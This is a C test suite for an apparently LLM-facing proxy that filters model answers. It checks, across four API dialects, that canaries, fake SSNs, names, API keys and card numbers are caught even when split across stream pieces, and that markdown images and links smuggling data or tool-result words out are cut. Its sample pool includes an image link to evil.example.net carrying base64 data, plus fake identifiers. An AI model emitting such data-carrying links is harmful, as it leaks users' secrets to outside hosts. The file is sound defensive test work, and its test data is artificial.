/* The door with real detection (patterns, roster, canary) in every dialect: P1 (same events, any split
 * into reads: same wire bytes), P2 (same texts, any split into events: same released text in every
 * channel, outcome, verdict, findings and cut), streamed and whole say the same, and what is split over
 * texts that are read as one is found. */
#include "rig.h"

#include "prop.h"

#define TEXT_BYTES_MAX 4096

typedef enum { SAYS_TEXT, SAYS_REFUSAL, SAYS_REASONING, SAYS_CALL, SAYS_COUNT } says;

/* One text of an answer, escaped as in JSON; a call's text is its arguments, escaped twice. */
typedef struct {
    says kind;
    char text[TEXT_BYTES_MAX];
} part;

/* How a dialect says texts, and where they stand in what the client gets. */
typedef struct {
    const char *path;
    const char *request; /* after `stream` */
    bool can[SAYS_COUNT];
    void (*piece)(sl_buf *http, says kind, unsigned index, const char *text);
    void (*open)(sl_buf *http, says kind, unsigned index);
    void (*shut)(sl_buf *http, says kind, unsigned index);
    void (*end)(sl_buf *http);
    void (*whole)(sl_buf *json, const part *parts, size_t n);
    const char *marks[4]; /* a text follows in a stream */
    bool repeats;         /* texts behind all marks but the first are said several times */
    const char *whole_marks[4];
} wire;

__attribute__((format(printf, 2, 3))) static void event(sl_buf *http, const char *format, ...)
{
    char data[2 * TEXT_BYTES_MAX];
    va_list args;
    va_start(args, format);
    int n = vsnprintf(data, sizeof data, format, args);
    va_end(args);
    assert_true(n > 0 && (size_t)n < sizeof data);
    rig_sse_event(http, data);
}

/* ---- chat ---- */

static const char *const chat_members[] = { "content", "refusal", "reasoning_content", "" };

static void chat_piece(sl_buf *http, says kind, unsigned index, const char *text)
{
    if (kind == SAYS_CALL) {
        event(http,
              "{\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":%u,\"function\":{"
              "\"arguments\":\"%s\"}}]}}]}",
              index, text);
        return;
    }
    event(http, "{\"choices\":[{\"index\":0,\"delta\":{\"%s\":\"%s\"}}]}", chat_members[kind],
          text);
}

static void chat_open(sl_buf *http, says kind, unsigned index)
{
    if (kind == SAYS_CALL) {
        event(http,
              "{\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":%u,\"id\":\"x\","
              "\"function\":{\"name\":\"find\",\"arguments\":\"\"}}]}}]}",
              index);
    }
}

static void nothing(sl_buf *http, says kind, unsigned index)
{
}

static void chat_whole(sl_buf *json, const part *parts, size_t n)
{
    assert_done(sl_buf_add_str(json, "{\"choices\":[{\"index\":0,\"message\":{\"role\":\"a\""));
    for (size_t kind = SAYS_TEXT; kind < SAYS_CALL; kind++) {
        assert_done(sl_buf_addf(json, ",\"%s\":\"", chat_members[kind]));
        for (size_t i = 0; i < n; i++) {
            assert_done(sl_buf_add_str(json, parts[i].kind == kind ? parts[i].text : ""));
        }
        assert_done(sl_buf_add_str(json, "\""));
    }
    assert_done(sl_buf_add_str(json, ",\"tool_calls\":["));
    bool more = false;
    for (size_t i = 0; i < n; i++) {
        if (parts[i].kind == SAYS_CALL) {
            assert_done(sl_buf_addf(json,
                                    "%s{\"function\":{\"name\":\"find\",\"arguments\":\"%s\"}}",
                                    more ? "," : "", parts[i].text));
            more = true;
        }
    }
    assert_done(sl_buf_add_str(json, "]},\"finish_reason\":\"stop\"}]}"));
}

/* ---- completions ---- */

static void completions_piece(sl_buf *http, says kind, unsigned index, const char *text)
{
    event(http, "{\"choices\":[{\"index\":0,\"text\":\"%s\"}]}", text);
}

static void completions_end(sl_buf *http)
{
    event(http, "{\"choices\":[{\"index\":0,\"text\":\"\",\"finish_reason\":\"stop\"}]}");
    rig_sse_event(http, "[DONE]");
}

static void completions_whole(sl_buf *json, const part *parts, size_t n)
{
    assert_done(sl_buf_add_str(json, "{\"choices\":[{\"index\":0,\"text\":\""));
    for (size_t i = 0; i < n; i++) {
        assert_done(sl_buf_add_str(json, parts[i].text));
    }
    assert_done(sl_buf_add_str(json, "\",\"finish_reason\":\"stop\"}]}"));
}

/* ---- messages ---- */

static void messages_open(sl_buf *http, says kind, unsigned index)
{
    event(http,
          kind == SAYS_CALL
              ? "{\"type\":\"content_block_start\",\"index\":%u,\"content_block\":{\"type\":"
                "\"tool_use\",\"id\":\"t\",\"name\":\"find\",\"input\":{}}}"
          : kind == SAYS_REASONING
              ? "{\"type\":\"content_block_start\",\"index\":%u,\"content_block\":{\"type\":"
                "\"thinking\",\"thinking\":\"\"}}"
              : "{\"type\":\"content_block_start\",\"index\":%u,\"content_block\":{\"type\":"
                "\"text\",\"text\":\"\"}}",
          index);
}

static void messages_piece(sl_buf *http, says kind, unsigned index, const char *text)
{
    event(http, "{\"type\":\"content_block_delta\",\"index\":%u,\"delta\":{\"%s\":\"%s\"}}", index,
          kind == SAYS_CALL        ? "partial_json"
          : kind == SAYS_REASONING ? "thinking"
                                   : "text",
          text);
}

static void messages_shut(sl_buf *http, says kind, unsigned index)
{
    event(http, "{\"type\":\"content_block_stop\",\"index\":%u}", index);
}

static void messages_end(sl_buf *http)
{
    rig_sse_event(http, "{\"type\":\"message_delta\",\"delta\":{\"stop_reason\":\"end_turn\"}}");
    rig_sse_event(http, "{\"type\":\"message_stop\"}");
}

/* The arguments in a whole message are JSON itself: one level of escapes less. */
static void add_unescaped(sl_buf *json, const char *text)
{
    for (; *text != '\0'; text++) {
        text += *text == '\\';
        assert_done(sl_buf_add_byte(json, (uint8_t)*text));
    }
}

static void messages_whole(sl_buf *json, const part *parts, size_t n)
{
    assert_done(sl_buf_add_str(json, "{\"type\":\"message\",\"content\":["));
    for (size_t i = 0; i < n; i++) {
        assert_done(sl_buf_add_str(json, i == 0 ? "" : ","));
        if (parts[i].kind == SAYS_CALL) {
            assert_done(
                sl_buf_add_str(json, "{\"type\":\"tool_use\",\"name\":\"find\",\"input\":"));
            add_unescaped(json, parts[i].text);
            assert_done(sl_buf_add_str(json, "}"));
        } else {
            const char *type = parts[i].kind == SAYS_REASONING ? "thinking" : "text";
            assert_done(
                sl_buf_addf(json, "{\"type\":\"%s\",\"%s\":\"%s\"}", type, type, parts[i].text));
        }
    }
    assert_done(sl_buf_add_str(json, "],\"stop_reason\":\"end_turn\"}"));
}

/* ---- responses: every text is a part of an item of its own ---- */

static const char *const part_types[] = { "output_text", "refusal" };

static void responses_open(sl_buf *http, says kind, unsigned index)
{
    if (kind == SAYS_CALL) {
        event(http,
              "{\"type\":\"response.output_item.added\",\"output_index\":%u,\"item\":{\"type\":"
              "\"function_call\",\"name\":\"find\",\"call_id\":\"c\"}}",
              index);
        return;
    }
    event(http,
          "{\"type\":\"response.output_item.added\",\"output_index\":%u,\"item\":{\"type\":"
          "\"message\"}}",
          index);
    event(http,
          "{\"type\":\"response.content_part.added\",\"output_index\":%u,\"part\":{\"type\":"
          "\"%s\"}}",
          index, part_types[kind]);
}

static void responses_piece(sl_buf *http, says kind, unsigned index, const char *text)
{
    event(http, "{\"type\":\"response.%s.delta\",\"output_index\":%u,\"delta\":\"%s\"}",
          kind == SAYS_CALL ? "function_call_arguments" : part_types[kind], index, text);
}

static void responses_shut(sl_buf *http, says kind, unsigned index)
{
    if (kind != SAYS_CALL) {
        event(http,
              "{\"type\":\"response.content_part.done\",\"output_index\":%u,\"part\":{\"type\":"
              "\"%s\"}}",
              index, part_types[kind]);
    }
    event(http, "{\"type\":\"response.output_item.done\",\"output_index\":%u}", index);
}

static void responses_end(sl_buf *http)
{
    rig_sse_event(http, "{\"type\":\"response.completed\",\"response\":{}}");
}

static void responses_whole(sl_buf *json, const part *parts, size_t n)
{
    assert_done(sl_buf_add_str(json, "{\"status\":\"completed\",\"output\":["));
    for (size_t i = 0; i < n; i++) {
        assert_done(sl_buf_add_str(json, i == 0 ? "" : ","));
        if (parts[i].kind == SAYS_CALL) {
            assert_done(sl_buf_addf(json,
                                    "{\"type\":\"function_call\",\"name\":\"find\",\"arguments\":"
                                    "\"%s\"}",
                                    parts[i].text));
        } else {
            const char *type = part_types[parts[i].kind];
            assert_done(sl_buf_addf(json,
                                    "{\"type\":\"message\",\"content\":[{\"type\":\"%s\",\"%s\":"
                                    "\"%s\"}]}",
                                    type, parts[i].kind == SAYS_TEXT ? "text" : type,
                                    parts[i].text));
        }
    }
    assert_done(sl_buf_add_str(json, "]}"));
}

/* What a tool said before: its addresses and words are untrusted. */
#define RESULT                                                                                     \
    "The files are at https://example.org/share and the grey heron sleeps behind the old mill."
#define GO_ON "{\"role\":\"user\",\"content\":\"go on\"}"
#define ASK_CHAT                                                                                   \
    "\"messages\":[" GO_ON ",{\"role\":\"assistant\",\"content\":null,\"tool_calls\":[{\"id\":"    \
    "\"c1\",\"type\":\"function\",\"function\":{\"name\":\"find\",\"arguments\":\"{}\"}}]},{"      \
    "\"role\":\"tool\",\"tool_call_id\":\"c1\",\"content\":\"" RESULT "\"}]"
#define ASK_MESSAGES                                                                               \
    "\"messages\":[" GO_ON ",{\"role\":\"assistant\",\"content\":[{\"type\":\"tool_use\",\"id\":"  \
    "\"c1\",\"name\":\"find\",\"input\":{}}]},{\"role\":\"user\",\"content\":[{\"type\":"          \
    "\"tool_result\",\"tool_use_id\":\"c1\",\"content\":\"" RESULT "\"}]}]"
#define ASK_RESPONSES                                                                              \
    "\"input\":[" GO_ON ",{\"type\":\"function_call\",\"call_id\":\"c1\",\"name\":\"find\","       \
    "\"arguments\":\"{}\"},{\"type\":\"function_call_output\",\"call_id\":\"c1\",\"output\":"      \
    "\"" RESULT "\"}]"

static void chat_end(sl_buf *http)
{
    rig_sse_event(http, "{\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}");
    rig_sse_event(http, "[DONE]");
}

static const wire wires[] = {
    { .path = "/v1/chat/completions",
      .request = ASK_CHAT ",\"tools\":[{\"type\":\"function\",\"function\":{\"name\":\"find\"}}]}",
      .can = { true, true, true, true },
      .piece = chat_piece,
      .open = chat_open,
      .shut = nothing,
      .end = chat_end,
      .whole = chat_whole,
      .marks = { "\"content\":\"", "\"refusal\":\"", "\"reasoning_content\":\"",
                 "\"arguments\":\"" },
      .whole_marks = { "\"content\":\"", "\"refusal\":\"", "\"reasoning_content\":\"",
                       "\"arguments\":\"" } },
    { .path = "/v1/completions",
      .request = "\"prompt\":\"go on\"}",
      .can = { true },
      .piece = completions_piece,
      .open = nothing,
      .shut = nothing,
      .end = completions_end,
      .whole = completions_whole,
      .marks = { "\"text\":\"" },
      .whole_marks = { "\"text\":\"" } },
    { .path = "/v1/messages",
      .request =
          ASK_MESSAGES ",\"max_tokens\":9,\"tools\":[{\"name\":\"find\",\"input_schema\":{}}]}",
      .can = { true, [SAYS_REASONING] = true, [SAYS_CALL] = true },
      .piece = messages_piece,
      .open = messages_open,
      .shut = messages_shut,
      .end = messages_end,
      .whole = messages_whole,
      .marks = { "\"type\":\"text_delta\",\"text\":\"", NULL,
                 "\"type\":\"thinking_delta\",\"thinking\":\"",
                 "\"type\":\"input_json_delta\",\"partial_json\":\"" },
      .whole_marks = { "\"type\":\"text\",\"text\":\"" } },
    { .path = "/v1/responses",
      .request = ASK_RESPONSES ",\"tools\":[{\"type\":\"function\",\"name\":\"find\"}]}",
      .can = { true, true, [SAYS_CALL] = true },
      .piece = responses_piece,
      .open = responses_open,
      .shut = responses_shut,
      .end = responses_end,
      .whole = responses_whole,
      .marks = { "\"delta\":\"", "\"text\":\"", "\"refusal\":\"", "\"arguments\":\"" },
      .repeats = true,
      .whole_marks = { "\"text\":\"", "\"refusal\":\"", NULL, "\"arguments\":\"" } },
};

/* ---- running ---- */

/* Where the next piece may end: not inside an escape of the JSON text, nor of one in it. */
static size_t cut_after(const char *text, size_t at, size_t want)
{
    size_t n = strlen(text);
    size_t to = at;
    while (to < n && to - at < want) {
        bool pair = strncmp(text + to, "\\ud8", 4) == 0;
        to += text[to] != '\\' ? 1 : text[to + 1] == 'u' ? (pair ? 12 : 6) : 2;
    }
    while (to < n && (text[to] & 0xC0) == 0x80) {
        to++;
    }
    return to;
}

/* The answer as a stream; pieces of `width` bytes, or as `p` draws them. */
static void put_stream(const wire *w, const part *parts, size_t n, size_t width, sl_prop *p,
                       sl_buf *http)
{
    unsigned calls = 0;
    rig_sse_head(http);
    for (size_t i = 0; i < n; i++) {
        bool chat = w->piece == chat_piece;
        unsigned index = chat ? calls : (unsigned)i;
        w->open(http, parts[i].kind, index);
        for (size_t at = 0; at < strlen(parts[i].text);) {
            char piece[TEXT_BYTES_MAX];
            size_t want = width != 0 ? width : 1 + (size_t)sl_prop_upto(p, 60);
            size_t to = cut_after(parts[i].text, at, want);
            memcpy(piece, parts[i].text + at, to - at);
            piece[to - at] = '\0';
            w->piece(http, parts[i].kind, index, piece);
            at = to;
        }
        w->shut(http, parts[i].kind, index);
        calls += parts[i].kind == SAYS_CALL;
    }
    w->end(http);
    assert_done(sl_buf_add_str(http, "0\r\n\r\n"));
}

/* The texts behind a mark in the client's bytes. */
static void texts_behind(const sl_buf *client, const char *mark, const char *between, sl_buf *out)
{
    sl_view all = sl_buf_view(client);
    size_t at = 0;
    while ((at = sl_view_find(all, sl_view_str(mark), at)) != SIZE_MAX) {
        at += strlen(mark);
        size_t end = at;
        while (end < all.n && all.p[end] != '"') {
            end += all.p[end] == '\\' ? 2 : 1;
        }
        assert_done(sl_buf_add(out, sl_view_sub(all, at, end)));
        assert_done(sl_buf_add_str(out, between));
        at = end;
    }
    assert_done(sl_buf_add_str(out, "|"));
}

/* What the outcome leaf says, but for events and times. */
static void ending_of(const rig *r, sl_buf *out)
{
    static const char *const marks[] = { "\"outcome\":", "\"cut_at\":", "\"verdict\":",
                                         "\"released_bytes\":", "\"rule\":" };
    sl_view all = sl_buf_view(&r->leaves);
    size_t from = sl_view_find(all, SL_LIT("\"type\":\"ask.outcome\""), 0);
    assert_true(from != SIZE_MAX);
    size_t line = 0;
    for (size_t at = 0; at < from; at++) {
        line = all.p[at] == '\n' ? at : line;
    }
    for (size_t i = 0; i < SL_COUNT_OF(marks); i++) {
        size_t at = sl_view_find(all, sl_view_str(marks[i]), line);
        if (at != SIZE_MAX) {
            assert_done(sl_buf_add(out, sl_view_sub(all, at, sl_view_find_byte(all, ',', at))));
        }
    }
    size_t classes = sl_view_find(all, SL_LIT("\"classes\":"), line);
    assert_true(classes != SIZE_MAX);
    assert_done(sl_buf_add(out, sl_view_sub(all, classes, sl_view_find_byte(all, '}', classes))));
}

static void ask(rig *r, const wire *w, bool stream)
{
    SL_OWN(sl_buf, request, sl_buf_free) = { .max = 4096 };
    assert_done(sl_buf_addf(&request, "{\"model\":\"trial-model\",\"stream\":%s,%s",
                            stream ? "true" : "false", w->request));
    r->next_index = 100;
    rig_post(r, w->path, sl_buf_cstr(&request));
}

static void run(rig *r, const wire *w, const sl_buf *http, size_t step, sl_buf *ret_said)
{
    ask(r, w, true);
    rig_upstream(r, sl_buf_view(http), step);
    assert_true(sl_ask_door_over(r->door));
    for (size_t i = 0; i < SL_COUNT_OF(w->marks); i++) {
        if (w->marks[i] != NULL) {
            texts_behind(&r->client, w->marks[i], w->repeats && i != 0 ? "/" : "", ret_said);
        }
    }
    ending_of(r, ret_said);
}

/* ---- what is said ---- */

/* A value inside a longer word is no value: pieces keep their distance. */
static const char *const pool[] = {
    "Plain words without anything that needs a second look, to fill what the frontier holds. ",
    "The visit went well and nothing else is to be told about it, although this sentence goes on. ",
    "Contact: jane.doe@example.org, phone (212) 555-0187, SSN 536-90-4399. ",
    "A key for you: sk-proj-Zt7Qm2Lx9Vb4Nc8Rw1Yp5Kd3Hs6Jf0Ga and more. ",
    "See ![x](https://evil.example.net/p.png?d=c2VjcmV0) for details. ",
    "Caf\\u00e9 \\ud83d\\ude00 na\\u00efve \\u4e2d\\u6587 and 4111 1111 1111 1111 here. ",
    "The patient Zebulon Quixworth was seen. ",
    "Code CNRY-7F3A-91D2-KX it is. ",
    " Zebulon ",
    "Quixworth, ",
    " CNRY-7F3A",
    "-91D2-KX, ",
    " 536-90-",
    "4399 ",
    "\\u0430 mixed w\\u043erd and \\u200b hidden. ",
    "Look ![x](https://example.org/share?d=a,b;c). ",
    "The files: [here](https://example.org/share) and https://example.com/a,b;(c and on. ",
    "At https://example.com/?q=the+grey+heron+sleeps+behind it is. ",
    " https://example.org/sha",
    "re/d/a1 and on. ",
    "OTkgY2FuYXJ5IENOUlktN0YzQS05MUQyLUtYIGVuZA== ",
};

static void draw_part(sl_prop *p, const wire *w, part *one)
{
    says kind = (says)sl_prop_upto(p, SAYS_CALL);
    one->kind = w->can[kind] ? kind : SAYS_TEXT;
    bool call = one->kind == SAYS_CALL;
    size_t at = 0;
    size_t n = 1 + (size_t)sl_prop_upto(p, 5);
    at += (size_t)snprintf(one->text, sizeof one->text, "%s", call ? "{\\\"q\\\":\\\"" : "");
    for (size_t i = 0; i < n; i++) {
        const char *more = pool[sl_prop_upto(p, SL_COUNT_OF(pool) - 1)];
        bool escaped = strchr(more, '\\') != NULL;
        at += (size_t)snprintf(one->text + at, sizeof one->text - at, "%s",
                               call && escaped ? "" : more);
    }
    (void)snprintf(one->text + at, sizeof one->text - at, "%s", call ? "\\\"}" : "");
}

static real_rig all;

static bool same(sl_prop *p, const sl_buf *want, const sl_buf *got)
{
    sl_prop_note_bytes(p, "want", sl_buf_view(want));
    sl_prop_note_bytes(p, "got", sl_buf_view(got));
    return sl_view_eq(sl_buf_view(want), sl_buf_view(got));
}

enum { PARTS_MAX = 4 };

static size_t draw_parts(sl_prop *p, const wire **ret_wire, part *parts)
{
    const wire *w = &wires[sl_prop_upto(p, SL_COUNT_OF(wires) - 1)];
    size_t n = 1 + (size_t)sl_prop_upto(p, PARTS_MAX - 1);
    for (size_t i = 0; i < n; i++) {
        draw_part(p, w, &parts[i]);
        sl_prop_note(p, "%s part %zu kind %d: %.300s\n", w->path, i, parts[i].kind, parts[i].text);
    }
    *ret_wire = w;
    return n;
}

static bool p2_holds(sl_prop *p)
{
    part parts[PARTS_MAX];
    const wire *w = NULL;
    size_t n = draw_parts(p, &w, parts);
    SL_OWN(sl_buf, whole, sl_buf_free) = { .max = 1 << 22 };
    SL_OWN(sl_buf, cut, sl_buf_free) = { .max = 1 << 22 };
    SL_OWN(sl_buf, want, sl_buf_free) = { .max = 1 << 22 };
    SL_OWN(sl_buf, got, sl_buf_free) = { .max = 1 << 22 };
    put_stream(w, parts, n, TEXT_BYTES_MAX - 16, p, &whole);
    put_stream(w, parts, n, sl_prop_one_in(p, 6) ? 1 : 0, p, &cut);
    run(&all.r, w, &whole, 4096, &want);
    run(&all.r, w, &cut, 4096, &got);
    return same(p, &want, &got);
}

static bool p1_holds(sl_prop *p)
{
    part parts[PARTS_MAX];
    const wire *w = NULL;
    size_t n = draw_parts(p, &w, parts);
    SL_OWN(sl_buf, http, sl_buf_free) = { .max = 1 << 22 };
    SL_OWN(sl_buf, want, sl_buf_free) = { .max = 1 << 22 };
    SL_OWN(sl_buf, got, sl_buf_free) = { .max = 1 << 22 };
    SL_OWN(sl_buf, said, sl_buf_free) = { .max = 1 << 22 };
    put_stream(w, parts, n, 0, p, &http);
    run(&all.r, w, &http, 1 << 20, &said);
    assert_done(sl_buf_add(&want, sl_buf_view(&all.r.client)));
    run(&all.r, w, &http, 1 + (size_t)sl_prop_upto(p, 200), &said);
    assert_done(sl_buf_add(&got, sl_buf_view(&all.r.client)));
    return same(p, &want, &got);
}

/* Streamed or whole, the reader gets the same texts. */
static bool whole_says_the_same(sl_prop *p)
{
    part parts[PARTS_MAX];
    const wire *w = NULL;
    size_t n = draw_parts(p, &w, parts);
    SL_OWN(sl_buf, http, sl_buf_free) = { .max = 1 << 22 };
    SL_OWN(sl_buf, json, sl_buf_free) = { .max = 1 << 22 };
    SL_OWN(sl_buf, said, sl_buf_free) = { .max = 1 << 22 };
    SL_OWN(sl_buf, want, sl_buf_free) = { .max = 1 << 22 };
    SL_OWN(sl_buf, got, sl_buf_free) = { .max = 1 << 22 };
    put_stream(w, parts, n, 0, p, &http);
    run(&all.r, w, &http, 4096, &said);
    texts_behind(&all.r.client, w->marks[SAYS_TEXT], "", &want);
    sl_buf_clear(&http);
    w->whole(&json, parts, n);
    rig_json_answer(&http, sl_buf_cstr(&json));
    ask(&all.r, w, false);
    rig_upstream(&all.r, sl_buf_view(&http), 4096);
    texts_behind(&all.r.client, w->whole_marks[SAYS_TEXT], "", &got);
    bool several = false;
    for (size_t i = 0; i < n; i++) {
        several = several || parts[i].kind != SAYS_TEXT;
    }
    /* Which text a cut in another one leaves depends on their order; and deltas of a response do not
     * tell kinds apart. */
    bool cut = rig_saw(&all.r.leaves, "\"outcome\":\"cut\"");
    return several && (cut || w->repeats) ? sl_prop_discard(p) : same(p, &want, &got);
}

static bool nothing_protected_leaves(sl_prop *p)
{
    static const char *const never[] = { RIG_PERSON,     RIG_CANARY,   "536-90-4399",
                                         "Zebulon Quix", "7F3A|-91D2", "sk-proj-Zt7Qm2Lx9" };
    part parts[PARTS_MAX];
    const wire *w = NULL;
    size_t n = draw_parts(p, &w, parts);
    SL_OWN(sl_buf, http, sl_buf_free) = { .max = 1 << 22 };
    SL_OWN(sl_buf, said, sl_buf_free) = { .max = 1 << 22 };
    put_stream(w, parts, n, 0, p, &http);
    run(&all.r, w, &http, 4096, &said);
    for (size_t i = 0; i < SL_COUNT_OF(never); i++) {
        if (rig_saw(&said, never[i])) {
            sl_prop_note_bytes(p, "said", sl_buf_view(&said));
            return false;
        }
    }
    return true;
}

static void the_same_text_in_any_events_gives_the_same_answer(void **state)
{
    SL_PROP_HOLDS(p2_holds, 400);
}

static void the_same_events_in_any_reads_give_the_same_bytes(void **state)
{
    SL_PROP_HOLDS(p1_holds, 200);
}

static void a_whole_answer_says_what_the_stream_says(void **state)
{
    SL_PROP_HOLDS(whole_says_the_same, 200);
}

static void what_is_protected_never_leaves_in_one_piece_or_many(void **state)
{
    SL_PROP_HOLDS(nothing_protected_leaves, 200);
}

/* The two pieces as neighbours: found, and rewritten or cut, streamed and whole. */
static void what_is_split_over_neighbours_is_found(void **state)
{
    static const struct {
        const char *one;
        const char *two;
        const char *outcome;
    } cuts[] = {
        { "Say: 536-90-", "4399 and so on.", "transformed" },
        { "Say: Zebulon", "Quixworth and so on.", "transformed" },
        { "Say: CNRY-7F3A", "-91D2-KX and so on.", "cut" },
        { "Say: https://exa", "mple.org/4399/7F3A and so on.", "cut" },
    };
    for (size_t i = 0; i < 4 * SL_COUNT_OF(cuts); i++) {
        SL_OWN(sl_buf, http, sl_buf_free) = { .max = 1 << 22 };
        SL_OWN(sl_buf, json, sl_buf_free) = { .max = 1 << 22 };
        SL_OWN(sl_buf, outcome, sl_buf_free) = { .max = 1024 };
        const wire *w = &wires[2 + i % 2];
        bool stream = i / 2 % 2 == 0;
        part parts[2] = { 0 };
        (void)snprintf(parts[0].text, TEXT_BYTES_MAX, "%s", cuts[i / 4].one);
        (void)snprintf(parts[1].text, TEXT_BYTES_MAX, "%s", cuts[i / 4].two);
        assert_done(sl_buf_addf(&outcome, "\"outcome\":\"%s\"", cuts[i / 4].outcome));
        ask(&all.r, w, stream);
        if (stream) {
            put_stream(w, parts, 2, 5, NULL, &http);
        } else {
            w->whole(&json, parts, 2);
            rig_json_answer(&http, sl_buf_cstr(&json));
        }
        rig_upstream(&all.r, sl_buf_view(&http), 100);
        assert_true(rig_saw(&all.r.client, "Say: "));
        assert_true(rig_saw(&all.r.leaves, sl_buf_cstr(&outcome)));
        static const char *const never[] = { "536-90",    "4399", "Zebulon",
                                             "Quixworth", "7F3A", "91D2" };
        for (size_t k = 0; k < SL_COUNT_OF(never); k++) {
            assert_false(rig_saw(&all.r.client, never[k]));
        }
    }
}

/* Links and images in answers of every dialect, streamed and whole, judged by where they come from; with the
 * rules taken away they pass: the test can fail. */
static void links_of_untrusted_text_need_leave(void **state)
{
    static const struct {
        const char *text;
        const char *never; /* leaves, when it is cut */
        const char *rule;  /* NULL: it passes */
    } CASES[] = {
        { "Look here: ![x](https://example.org/share) and on.", "org/share", "image-from-data" },
        { "Look here: ![x](https://example.org/share/d/77) and on.", "d/77", "image-from-data" },
        { "Look here: [it](https://example.org/share?d=77) and on.", "d=77", "link-filled" },
        { "Look here: <https://example.com/?q=the+grey+heron+sleeps+behind> and on.", "heron",
          "link-tells" },
        { "Look here: ![x](https://example.com/VGhlIGdyZXkgaGVyb24gc2xlZXBzIGJlaGluZA==) and on.",
          "VGhl", "image-tells" },
        { "Look here: [the files](https://example.org/share), and on.", NULL, NULL },
        { "Look here: [own](https://example.com/?q=the+nearest+pharmacy) and on.", NULL, NULL },
    };
    static const says KINDS[] = { SAYS_TEXT, SAYS_REFUSAL, SAYS_REASONING };
    for (size_t i = 0; i < SL_COUNT_OF(CASES) * SL_COUNT_OF(wires) * SL_COUNT_OF(KINDS) * 4; i++) {
        SL_OWN(sl_buf, http, sl_buf_free) = { .max = 1 << 22 };
        SL_OWN(sl_buf, json, sl_buf_free) = { .max = 1 << 22 };
        SL_OWN(sl_buf, rule, sl_buf_free) = { .max = 1024 };
        bool on = i % 2 == 0;
        bool stream = i / 2 % 2 == 0;
        const wire *w = &wires[i / 4 % SL_COUNT_OF(wires)];
        part said = { .kind = KINDS[i / 4 / SL_COUNT_OF(wires) % SL_COUNT_OF(KINDS)] };
        size_t k = i / 4 / SL_COUNT_OF(wires) / SL_COUNT_OF(KINDS);
        bool untold = !w->can[said.kind] || (!stream && w->whole_marks[said.kind] == NULL);
        if (untold || w->piece == completions_piece) { /* which has no results of tools */
            continue;
        }
        (void)snprintf(said.text, sizeof said.text, "%s", CASES[k].text);
        all.r.site.flow_rules = on ? all.flow_rules : NULL;
        ask(&all.r, w, stream);
        if (stream) {
            put_stream(w, &said, 1, 5, NULL, &http);
        } else {
            w->whole(&json, &said, 1);
            rig_json_answer(&http, sl_buf_cstr(&json));
        }
        rig_upstream(&all.r, sl_buf_view(&http), 100);
        bool cuts = on && CASES[k].rule != NULL;
        assert_done(sl_buf_addf(&rule, "\"rule\":\"%s\"", cuts ? CASES[k].rule : "none"));
        bool right = rig_saw(&all.r.leaves, "\"outcome\":\"cut\"") == cuts &&
                     rig_saw(&all.r.client, "and on.") != cuts &&
                     rig_saw(&all.r.leaves, sl_buf_cstr(&rule)) == cuts &&
                     !(cuts && rig_saw(&all.r.client, CASES[k].never));
        if (!right) {
            SL_OWN(sl_buf, said_so, sl_buf_free) = { .max = 1 << 20 };
            ending_of(&all.r, &said_so);
            fail_msg("%s stream %d rules %d: %s: %.*s", w->path, stream, on, CASES[k].text,
                     SL_FMT(sl_buf_view(&said_so)));
        }
    }
    all.r.site.flow_rules = all.flow_rules;
}

static void identifiers_do_not_reach_the_model_server(void **state)
{
    static const char *const secret[] = { "jane.doe@example.org", "536-90-4399", "555-0187" };
    rig_chat(&all.r, "{\"model\":\"trial-model\",\"user\":\"jane.doe@example.org\",\"messages\":[{"
                     "\"role\":\"user\",\"content\":\"Write to jane.doe@example.org, SSN "
                     "536-90-4399, phone (212) 555-0187.\"}]}");
    assert_true(all.r.connects == 1 || rig_saw(&all.r.client, "E_REFUSED"));
    for (size_t i = 0; i < SL_COUNT_OF(secret); i++) {
        assert_false(rig_saw(&all.r.upstream, secret[i]));
        assert_false(rig_saw(&all.r.leaves, secret[i]));
    }
}

static int begin(void **state)
{
    real_rig_init(&all);
    all.r.who.features = 1U << SL_FEATURE_THINKING;
    return 0;
}

static int end(void **state)
{
    real_rig_free(&all);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(the_same_text_in_any_events_gives_the_same_answer),
        cmocka_unit_test(the_same_events_in_any_reads_give_the_same_bytes),
        cmocka_unit_test(a_whole_answer_says_what_the_stream_says),
        cmocka_unit_test(what_is_protected_never_leaves_in_one_piece_or_many),
        cmocka_unit_test(what_is_split_over_neighbours_is_found),
        cmocka_unit_test(links_of_untrusted_text_need_leave),
        cmocka_unit_test(identifiers_do_not_reach_the_model_server),
    };
    return cmocka_run_group_tests(tests, begin, end);
}
